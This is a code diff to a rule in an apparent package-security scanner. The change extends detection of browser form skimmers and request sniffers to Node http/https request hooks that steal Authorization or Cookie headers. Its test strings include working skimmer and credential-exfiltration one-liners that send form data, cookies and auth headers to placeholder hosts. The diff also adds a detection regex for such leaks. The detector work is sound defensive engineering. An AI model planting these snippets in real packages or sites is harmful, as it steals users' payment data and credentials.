@@ -11,9 +11,12 @@ crate::declare_rule! {
     /// char codes) or that targets checkout and card pages. A request sniffer: a wrapper around
     /// `XMLHttpRequest.prototype.send` or `fetch` that tests outgoing bodies for secrets
     /// (mnemonic, seed, private key, password) and sends them out together with `document.cookie`
-    /// or the whole `localStorage`. Payment SDKs read their own card fields and post them to
-    /// their API; monitoring agents wrap fetch for timings: neither gathers every field nor greps
-    /// bodies for secrets.
+    /// or the whole `localStorage`. The server-side twin: Node's `http`/`https` `request` or
+    /// `get` replaced by a wrapper that takes the `Authorization` or `Cookie` header of every
+    /// outgoing request and sends it to a host written next to it (the hook a backdoor splices
+    /// into other installed packages). Payment SDKs read their own card fields and post them to
+    /// their API; monitoring agents wrap fetch or http for timings and send where they are
+    /// configured: neither gathers every field nor greps bodies for secrets.
     id: "browser-data-theft",
     category: Data,
     severity: Critical,
@@ -23,10 +26,13 @@ crate::declare_rule! {
     case_file: "index.js",
     flag: ["if (/checkout|payment/.test(location.pathname)) document.addEventListener('submit', function (e) { var d = {}; for (var i = 0; i < e.target.elements.length; i++) { var el = e.target.elements[i]; d[el.name] = el.value } (new Image).src = h + '?d=' + btoa(JSON.stringify(d)) }, true)",
            "$('form').submit(function () { var data = $(this).serializeArray(); $.ajax({ url: 'https://collect.example/u.php', type: 'POST', data: JSON.stringify(data) }) })",
-           "var n = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (d) { if (/mnemonic|private_?key/i.test(d)) navigator.sendBeacon(E, JSON.stringify({ c: document.cookie, d: d })); return n.apply(this, arguments) }"],
+           "var n = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (d) { if (/mnemonic|private_?key/i.test(d)) navigator.sendBeacon(E, JSON.stringify({ c: document.cookie, d: d })); return n.apply(this, arguments) }",
+           "const https = require('https'); const orig = https.request; https.request = function (opts, cb) { const h = (opts && opts.headers) || {}; const a = h.Authorization || h.authorization; if (a) orig({ hostname: 'hdr.collect.example', path: '/h', method: 'POST' }).end(a); return orig.apply(this, arguments) }"],
     pass: ["form.addEventListener('submit', async (e) => { e.preventDefault(); await fetch(API, { method: 'POST', body: JSON.stringify({ number: card.value }) }) })",
            "var of = window.fetch; window.fetch = function (u) { var t0 = performance.now(); return of.apply(this, arguments).then(function (r) { navigator.sendBeacon(cfg.endpoint, JSON.stringify({ u: u, d: performance.now() - t0 })); return r }) }; var m = document.cookie.match(/sid=([^;]+)/)",
-           "form.addEventListener('submit', (e) => { const data = new FormData(form); fetch(form.action, { method: 'POST', body: data }) })"],
+           "form.addEventListener('submit', (e) => { const data = new FormData(form); fetch(form.action, { method: 'POST', body: data }) })",
+           // an APM agent: wraps http.request for timings, redacts the header, sends where configured
+           "const http = require('http'); const orig = http.request; http.request = function (opts) { const t0 = Date.now(); const h = Object.assign({}, opts.headers); if (h.authorization) h.authorization = '[redacted]'; const req = orig.apply(this, arguments); req.on('response', () => agent.record({ url: opts.path, ms: Date.now() - t0, headers: h })); return req }; agent.flushTo(config.serverUrl)"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -54,7 +60,19 @@ fn check(pkg: &Package, out: &mut Emitter) {
             continue;
         }
         let text = all_text(f);
-        if !crate::mentions!(text, ["submit", "prototype.send", ".fetch"]) {
+        if !crate::mentions!(
+            text,
+            ["submit", "prototype.send", ".fetch", ".request", ".get"]
+        ) {
+            continue;
+        }
+        if let Some(off) = node_header_hook(f, text) {
+            out.hit(
+                pkg,
+                f,
+                off,
+                "replaces Node's http request function and sends the Authorization or Cookie header of outgoing requests to a fixed host",
+            );
             continue;
         }
         if let (Some(s), true, true) = (
@@ -94,4 +112,21 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
         }
     }
+}
+
+/// Node's `http`/`https` `request`/`get` replaced (`https.request = function …`), with an
+/// `Authorization`/`Cookie` header read within a few hundred characters of a host or URL
+/// written in the code: where the wrapper sends what it took. The offset of the assignment.
+fn node_header_hook(f: &crate::package::FileCtx, text: &str) -> Option<u32> {
+    let js = f.js.as_ref()?;
+    let (_, off) = js.assigns.iter().find(|(p, _)| {
+        matches!(
+            p.as_str(),
+            "http.request" | "https.request" | "http.get" | "https.get"
+        )
+    })?;
+    let leak = crate::regex!(
+        r#"(?i)\b(?:authorization|cookie)\b[^\n]{0,300}?(?:\bhost(?:name)?['"]?\s*:\s*['"][\w.-]+\.[a-z0-9]+['"]|['"]https?://[\w.-]+\.[a-z0-9]+)"#
+    );
+    leak.is_match(text).then_some(*off)
 }
